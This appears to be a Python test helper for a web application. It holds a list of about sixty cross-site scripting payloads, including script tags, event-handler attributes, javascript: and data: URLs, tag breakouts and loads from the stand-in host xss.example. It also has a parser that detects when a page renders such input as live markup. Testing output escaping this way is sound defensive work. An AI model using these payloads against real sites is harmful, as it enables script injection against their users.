"""Strings that would like to be markup, forms that take them, and pages that must not obey."""

from dataclasses import dataclass, field
from html.parser import HTMLParser

from cpdhub import clock

MARK = "xss"  # in every string below, and in nothing of ours
STRINGS = (
    """
<script>xss()</script>
<script src=//xss.example></script>
<ScRiPt xss>xss()</sCrIpT>
<script >xss()</script >
<script/xss>xss()</script >
</script><script>xss()</script>
</script><img xss src=x onerror=xss()>
</textarea><img xss src=x onerror=xss()>
</title><svg xss onload=xss()>
</style><script>xss()</script>
</option></select><img xss src=x>
</button></form><form xss action=//xss.example>
</td></tr></table><img xss src=x>
</noscript><img xss src=x onerror=xss()>
--><img xss src=x onerror=xss()><!--
]]><img xss src=x onerror=xss()>
<!--<img src="--><img xss src=x onerror=xss()//">
<![CDATA[<img xss src=x onerror=xss()>]]>
<img xss src=x onerror=xss()>
<img/xss/src=x/onerror=xss()>
<img xss src="x`<script>xss()</script>"`>
<img xss src=x onerror=&#120;ss()>
<img xss src=javascript:xss()>
<img xss srcset="x 1x" onerror=xss()>
<IMG XSS SRC=x ONERROR=xss()>
<<img xss src=x onerror=xss()//<
<img xss src=x:x onerror=xss()
<svg xss onload=xss()>
<svg xss/onload=xss()>
<svg xss><script>xss()</script></svg>
<svg xss><a xlink:href=javascript:xss()><text>x</text></a></svg>
<svg xss><animate onbegin=xss() attributeName=x></svg>
<math xss href=javascript:xss()>x</math>
<body xss onload=xss()>
<input xss onfocus=xss() autofocus>
<select xss onfocus=xss() autofocus>
<details xss open ontoggle=xss()>
<video xss><source onerror=xss()>
<audio xss src=x onerror=xss()>
<iframe xss src=javascript:xss()></iframe>
<iframe xss srcdoc="<script>xss()</script>"></iframe>
<object xss data=javascript:xss()></object>
<embed xss src=javascript:xss()>
<base xss href=//xss.example/>
<link xss rel=stylesheet href=//xss.example>
<meta xss http-equiv=refresh content="0;url=javascript:xss()">
<style xss>*{background:url(//xss.example)}</style>
<form xss><button formaction=javascript:xss()>x</button></form>
<a xss href=javascript:xss()>x</a>
<a xss href="java&#10;script:xss()">x</a>
<a xss href=data:text/html,<script>xss()</script>>x</a>
<div xss style=position:fixed;inset:0>x</div>
<div xss hx-get=//xss.example hx-trigger=load>x</div>
<marquee xss onstart=xss()>x</marquee>
<xss id=x tabindex=1 onfocus=xss()>
" xss onfocus=xss() autofocus x="
' xss onfocus=xss() autofocus x='
"><img xss src=x onerror=xss()>
'><img xss src=x onerror=xss()>
"/><svg xss onload=xss()>
javascript:xss()
 JaVaScRiPt:xss()
java\tscript:xss()
data:text/html,<script>xss()</script>
""".strip("\n")
    .replace(r"\t", "\t")
    .split("\n")
)
EMAIL = '"<img/xss/onerror=a>"@school.example'

NEVER_OURS = {"iframe", "object", "embed", "base", "math", "marquee", "frame", "frameset"}
ADDRESSES = {"href", "src", "action", "formaction", "data", "xlink:href", "hx-get", "hx-post"}
OBEYED = ("javascript:", "data:", "vbscript:")


class Reader(HTMLParser):
    """Reads a page as a browser would; keeps what in it was made from input, and its forms."""

    def __init__(self, html):
        super().__init__()
        self.wrong, self.forms, self.inside, self.is_shown = [], [], [], False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        values = {name: value or "" for name, value in attributes}
        if (
            tag in NEVER_OURS
            or MARK in tag
            or any(self._is_wrong(tag, *pair) for pair in values.items())
        ):
            self.wrong.append(self.get_starttag_text()[:200])
        self.is_shown |= any(MARK in value for value in values.values())
        if tag in {"script", "style"}:
            self.inside.append(tag)
        self._read_form(tag, values)

    def _is_wrong(self, tag, name, value):
        plain = "".join(c for c in value if c > " ").casefold()
        return (
            MARK in name
            or name.startswith("on")
            or name in {"style", "srcdoc"}
            or (name in ADDRESSES and plain.startswith(OBEYED))
            or (name in ADDRESSES and "//xss" in plain and plain.index("//xss") < 7)
        )

    def handle_endtag(self, tag):
        if self.inside and self.inside[-1] == tag:
            self.inside.pop()

    def handle_data(self, data):
        if MARK in data:
            self.is_shown = True
            if self.inside and self.inside[-1] in {"script", "style"}:
                self.wrong.append(f"in {self.inside[-1]}: {data[:200]}")

    def handle_comment(self, data):
        if MARK in data:
            self.wrong.append(f"comment: {data[:200]}")

    handle_decl = unknown_decl = handle_pi = handle_comment

    def _read_form(self, tag, values):
        if tag == "form":
            self.forms.append(Form(values.get("action", ""), values.get("method", "get").lower()))
        elif self.forms:
            self.forms[-1].take(tag, values)


@dataclass
class Form:
    """One form of a page: what a browser would send, and which fields somebody types into."""

    action: str
    method: str
    sent: dict = field(default_factory=dict)
    typed: dict = field(default_factory=dict)  # name → how much fits
    plain: dict = field(default_factory=dict)  # name → what stands in it already
    refused: set = field(default_factory=set)  # names beside which the page says what is wrong
    _select: tuple = ("", False)
    _hour: int = 7

    def take(self, tag, values):
        name, kind = values.get("name", ""), values.get("type", "text")
        if tag == "option":
            self._option(values)
        elif not name:
            return
        elif tag == "select":
            self._select = name, "required" in values
        elif tag == "textarea" or (tag == "input" and kind in {"text", "search", "email", "url"}):
            self.typed[name] = "email" if kind == "email" else int(values.get("maxlength", 5_000))
            empty = "https://school.example/" if kind == "url" else "Plain words"
            self.plain[name] = values.get("value") or empty
            if values.get("aria-invalid") == "true":
                self.refused.add(name)
        elif tag == "button" or kind == "submit":
            self.sent.setdefault(name, values.get("value", ""))
        elif tag == "input" and kind != "file":
            self._input(name, kind, values)

    def _option(self, values):
        name, is_required = self._select
        if not name:
            return
        value = values.get("value", "")
        if "selected" in values or name not in self.sent or (is_required and not self.sent[name]):
            self.sent[name] = value

    def _input(self, name, kind, values):
        value = values.get("value", "")
        if kind in {"checkbox", "radio"}:
            value = values.get("value", "on")
            self.sent.setdefault(name, value)  # the first, when none is chosen
            if "checked" in values:
                self.sent[name] = value
        elif kind == "time":
            self._hour += 1
            self.sent[name] = value or f"{self._hour:02}:00"
        elif kind == "number":
            self.sent[name] = value or values.get("min") or "1"
        elif kind == "date":
            self.sent[name] = value or clock.today().isoformat()
        else:
            self.sent[name] = value
